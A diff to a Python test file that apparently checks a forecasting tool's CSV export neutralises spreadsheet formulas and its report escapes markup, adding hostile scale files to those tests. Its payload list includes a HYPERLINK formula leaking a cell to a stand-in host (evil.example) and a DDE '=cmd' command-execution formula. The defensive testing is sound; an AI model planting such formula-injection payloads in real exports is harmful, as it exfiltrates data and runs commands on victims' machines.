@@ -185,8 +185,21 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1,2)", 
             "@SUM(A1:A9)", "=1+1", "=cmd|' /C notepad'!'A1'"]
 
 
+def hostile_scales(workspace, scales: dict[str, list[str]]) -> None:
+    """Workspace scales named and worded with hostile text: apply checks phrases against their scale, so
+    hostile phrases get in only through a scale that has them (which is how such text would arrive)."""
+    import yaml
+
+    (workspace / "scales").mkdir(exist_ok=True)
+    for number, (name, phrases) in enumerate(scales.items()):
+        entries = [{"phrase": phrase, "band": [0.4, 0.6], "probability": 0.5} for phrase in phrases]
+        (workspace / "scales" / f"hostile{number}.yaml").write_text(yaml.safe_dump(
+            {"name": name, "title": name, "source": name, "phrases": entries}))
+
+
 def test_formulas_in_every_text_field_are_neutralised_in_csv(cli, workspace, database_url):
     f = FORMULAS
+    hostile_scales(workspace, {f[3]: [f[2]], f[4]: [f[3]]})
     question = {
         "questions": [{
             "id": "formulas", "text": f[0], "criteria": f[1], "due": "2027-01-01", "phrase": f[2], "scale": f[3],
@@ -232,6 +245,7 @@ def markup(field: str) -> str:
 def test_markup_in_every_text_field_is_escaped_in_the_report(cli, workspace, database_url):
     import json
 
+    hostile_scales(workspace, {markup("scale"): [markup("phrase"), markup("prediction-phrase")]})
     question = {
         "questions": [
             {"id": "markup", "text": "Will " + markup("text") + " happen?", "criteria": markup("criteria"),
@@ -239,7 +253,8 @@ def test_markup_in_every_text_field_is_escaped_in_the_report(cli, workspace, dat
              "source": {"document": markup("document"), "publisher": markup("publisher"), "quote": markup("quote"),
                         "location": markup("location"), "url": "javascript:alert('url')"},
              "predictions": [{"forecaster": "ana", "made_at": "2026-01-01T00:00:00Z", "probability": 0.7,
-                              "phrase": markup("prediction-phrase"), "rationale": markup("rationale")}]},
+                              "phrase": markup("prediction-phrase"), "scale": markup("scale"),
+                              "rationale": markup("rationale")}]},
             {"id": "plain", "text": "Will the plain one hold?", "criteria": "c", "due": "2026-06-01",
              "predictions": [{"forecaster": "bo", "made_at": "2026-01-01T00:00:00Z", "probability": 0.2,
                               "rationale": markup("rationale2")}]},
